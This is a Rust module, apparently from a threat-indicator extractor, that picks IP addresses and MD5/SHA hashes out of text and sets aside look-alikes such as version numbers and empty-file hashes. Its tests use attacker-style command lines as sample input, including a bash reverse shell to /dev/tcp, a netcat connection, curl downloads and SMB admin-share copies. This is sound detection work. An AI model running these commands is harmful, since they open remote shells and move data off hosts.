//! Finds addresses and hashes in text, and tells them from what only looks like them.

use std::net::IpAddr;

use crate::{IndicatorKind, address};

/// Hashes of no bytes at all: every host has such files.
const EMPTY_FILE: [&str; 3] = [
    "d41d8cd98f00b204e9800998ecf8427e",
    "da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
];

/// Says which hash a word can be; `None` if it is none, or a filler such as 32 zeros, or the hash of an empty file.
pub(crate) fn hash_kind(word: &str) -> Option<IndicatorKind> {
    let kind = match word.len() {
        32 => IndicatorKind::Md5,
        40 => IndicatorKind::Sha1,
        64 => IndicatorKind::Sha256,
        _ => return None,
    };
    let hex = word.bytes().all(|byte| byte.is_ascii_hexdigit());
    let filler = word.bytes().all(|byte| byte == word.as_bytes()[0]);
    let empty = EMPTY_FILE.iter().any(|hash| hash.eq_ignore_ascii_case(word));
    (hex && !filler && !empty).then_some(kind)
}

/// Finds addresses that stand as words in text. Numbers of versions look the same: what stands before a word tells them apart.
pub(crate) fn addresses(text: &str) -> impl Iterator<Item = (IpAddr, Option<u16>)> {
    let parts = |c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | ':' | '[' | ']' | '-' | '_'));
    let mut at = 0;
    std::iter::from_fn(move || {
        while at < text.len() {
            let start = at;
            let end = text[start..].find(parts).map_or(text.len(), |length| start + length);
            let separator = text[end..].chars().next().map_or(0, char::len_utf8);
            at = end + separator;
            let word = text[start..end].trim_end_matches(['.', ':']);
            // `::` and the like are operators in scripts far more often than addresses.
            let digits = word.bytes().filter(u8::is_ascii_digit).count();
            if digits < 4 && word.len() < 7 {
                continue;
            }
            let (start, found) = match (address::parse(word), word.split_once(':')) {
                // `/v:203.0.113.9`, `TCP4:203.0.113.9:443`, `-L 8080:203.0.113.9:80`.
                (None, Some((label, after))) if !label.contains(['.', '[', ']']) => {
                    (start + label.len(), address::parse(after))
                }
                (found, _) => (start, found),
            };
            if let Some((ip, _)) = found
                && !is_object_id(ip)
                && !is_version(&text[..start])
            {
                return found;
            }
        }
        None
    })
}

/// Says whether what looks like an address is the id of a certificate's extension: `2.5.29.37` stands in every script that makes one.
fn is_object_id(ip: IpAddr) -> bool {
    matches!(ip, IpAddr::V4(ip) if ip.octets()[..3] == [2, 5, 29])
}

/// Says whether what stands before a word makes it the number of a version: the word `version`, or the folders of a path.
fn is_version(before: &str) -> bool {
    const WORDS: [&str; 5] = ["ver", "rev", "release", "build", "versions"];
    let Some(separator @ ('/' | '\\')) = before.chars().next_back() else {
        // As far back as `--product-version = "` needs.
        let tail = &before[before.ceil_char_boundary(before.len().saturating_sub(32))..];
        let tail = tail.trim_end_matches([' ', '\t', '=', ':', '"', '\'', ']', '(']);
        let word = tail.rsplit(|c: char| !c.is_ascii_alphabetic()).next().unwrap_or("");
        let word = word.to_ascii_lowercase();
        return word.ends_with("version") || WORDS.contains(&word.as_str());
    };
    if before.ends_with("/dev/tcp/") || before.ends_with("/dev/udp/") {
        return false;
    }
    let head = before.trim_end_matches(separator);
    let starts_a_word = head
        .chars()
        .next_back()
        .is_none_or(|c| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | '=' | ',' | ';' | '|' | '>'));
    let scheme = separator == '/' && head.ends_with(':') && before.len() - head.len() == 2;
    // `\\203.0.113.9\share`, `//203.0.113.9/share` and Java's `/203.0.113.9:80`, but not `C:\app\1.2.3.4` and `/opt/app/1.2.3.4`.
    !(scheme || starts_a_word && (separator == '/' || before.len() - head.len() > 1))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<String> {
        addresses(text).map(|(ip, _)| ip.to_string()).collect()
    }

    #[test]
    fn addresses_are_whole_words() {
        let found: Vec<_> =
            addresses("nc 203.0.113.66 4444; curl 198.51.100.7:8080/x v10.0.19041.746 [Ref]::x a::b 1.2.3.4.5")
                .map(|(ip, port)| (ip.to_string(), port))
                .collect();
        assert_eq!(
            found,
            [
                ("203.0.113.66".to_owned(), None),
                ("198.51.100.7".to_owned(), Some(8080))
            ]
        );
    }

    #[test]
    fn the_number_of_a_version_is_no_address() {
        for text in [
            r"C:\Program Files (x86)\Microsoft\EdgeUpdate\1.3.187.37\MicrosoftEdgeUpdate.exe /c",
            r"C:\\Program Files\\App\\8.1.2.3\\a.exe",
            "/opt/app/1.2.3.4/bin/run",
            "setup --version 8.1.2.3",
            "setup /AppVersion=8.1.2.3",
            "tool ver: 8.1.2.3",
            "FileVersion=\"8.1.2.3\"",
            "version:8.1.2.3",
            "System.Core, Version=4.0.0.0, Culture=neutral",
            "[version]'8.1.2.3'",
            "-TextExtension @('2.5.29.37={text}1.3.6.1.5.5.7.3.2')",
            "jquery-8.1.2.3.min.js v8.1.2.3",
        ] {
            assert_eq!(found(text), [] as [String; 0], "{text}");
        }
        for text in [
            "ping 8.1.2.3",
            r"copy \\8.1.2.3\c$\x",
            r#"net use "\\8.1.2.3\c$""#,
            "bash -i >& /dev/tcp/8.1.2.3/4444 0>&1",
            "smbclient //8.1.2.3/share",
            "connect to /8.1.2.3:80 failed",
            "curl http://8.1.2.3/x",
            "scp x root@8.1.2.3:/tmp",
            "server 8.1.2.3",
            "mstsc /v:8.1.2.3",
            "socat TCP4-LISTEN:80,fork TCP4:8.1.2.3:443",
            "ssh -L 8080:8.1.2.3:80 x",
        ] {
            assert_eq!(found(text), ["8.1.2.3"], "{text}");
        }
    }

    #[test]
    fn a_hash_is_only_what_can_be_one() {
        assert_eq!(hash_kind("087875B45857B2A20D4D64230AD402A4"), Some(IndicatorKind::Md5));
        for none in [
            "00000000000000000000000000000000",
            "d41d8cd98f00b204e9800998ecf8427e",
            "xyz",
            "087875B45857B2A20D4D64230AD402AG",
            "abc123",
        ] {
            assert_eq!(hash_kind(none), None, "{none}");
        }
    }
}
